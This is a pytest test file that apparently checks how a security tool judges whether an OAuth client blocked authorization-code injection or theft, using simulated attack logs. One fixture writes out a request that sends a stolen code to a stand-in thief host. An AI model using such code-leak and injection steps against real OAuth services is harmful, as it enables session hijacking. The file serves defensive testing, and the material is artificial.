"""What shows that the client has turned an answer down, or signed in to no session but its own."""

import pytest
from msgspec.structs import replace

from reports.records import HttpRequest, Observation, Proof
from tests.reports.judgement.cases import (
    ALICE,
    REDIRECT_URI,
    STOLEN,
    Log,
    Make,
    Shape,
    at,
    exchange,
    issued,
    look,
    verdict,
)
from tests.reports.judgement.kinds import turned_down
from tests.reports.judgement.prepared import own_session, refused_form, unasked_server
from tests.reports.judgement.spoil import Spoil, add, answer, ask, change, started_of

REFUSED, OPEN = Observation.ATTACK_BLOCKED, Observation.INCONCLUSIVE


@pytest.mark.parametrize(("when", "observed"), [(15, REFUSED), (15.1, OPEN)])
def test_a_code_is_turned_down_that_was_captured_before(when: float, observed: Observation) -> None:
    log = turned_down()
    change("attack.loot", at=at(when))(log)

    assert verdict(log).observed is observed


def test_it_was_that_code_which_was_turned_down() -> None:
    log = turned_down()
    ask("attack.inject", url=f"{REDIRECT_URI}?code=code%238")(log)

    assert verdict(log).observed is OPEN


def test_the_last_look_says_who_is_signed_in() -> None:
    for made in (turned_down, refused_form, own_session):
        log = made()
        record = log["attack.look"]
        add("attack.last", replace(record, id="attack.last", at=at(21)), "attack.look")(log)

        assert "attack.last" in verdict(log).evidence


def test_an_own_session_protects_from_the_theft_of_one_only() -> None:
    log = own_session()
    (scenario,) = started_of(log).scenarios
    change("started", scenarios=(replace(scenario, proof=Proof.TOKEN),))(log)

    assert verdict(log).observed is OPEN


def test_the_session_of_the_victim_may_show_them_at_once_and_again() -> None:
    log = own_session()
    change("attack.hers", at=at(15))(log)
    assert verdict(log).observed is REFUSED

    again = replace(log["attack.hers"], id="attack.last", at=at(18))
    add("attack.last", again, "attack.hers")(log)
    assert "attack.last" in verdict(log).evidence


def _thief_reads(log: Log) -> None:
    seen = HttpRequest("GET", "https://www.thief.test/?code=code#9")
    log["attack.leak"] = exchange("attack.leak", 13, "victim-browser > thief", seen, 200)


def _without_code(log: Log) -> None:
    answer("attack.asked", 303, location=f"{REDIRECT_URI}?error=server_error")(log)
    ask("attack.answer", url=f"{REDIRECT_URI}?code=")(log)


@pytest.mark.parametrize(
    ("made", "spoil"),
    [
        (own_session, change("attack.hers", destination="identity-provider")),
        (own_session, answer("attack.look", 200, "{}")),
        (own_session, add("attack.last", look("attack.last", 21, 200), "attack.look")),
        (unasked_server, change("attack.answer", destination="identity-provider")),
        (unasked_server, ask("attack.answer", url=f"{REDIRECT_URI}?code=code%238")),
        (unasked_server, answer("attack.answer", 200, ALICE)),
        (unasked_server, _thief_reads),
        (unasked_server, _without_code),
    ],
)
def test_nothing_else_is_a_refusal_of_the_client(made: Make, spoil: Spoil) -> None:
    log = made()
    spoil(log)

    assert verdict(log).observed is OPEN, verdict(log).reason


def test_a_client_may_turn_an_answer_down_when_it_has_redeemed_the_code() -> None:
    shape = Shape(Proof.SESSION, "S256", secret=False)
    granted = shape.token("attack.token", 15.2, "client", STOLEN, 200, issued("access_token#2"))

    assert verdict(turned_down() | {"attack.token": granted}).observed is REFUSED
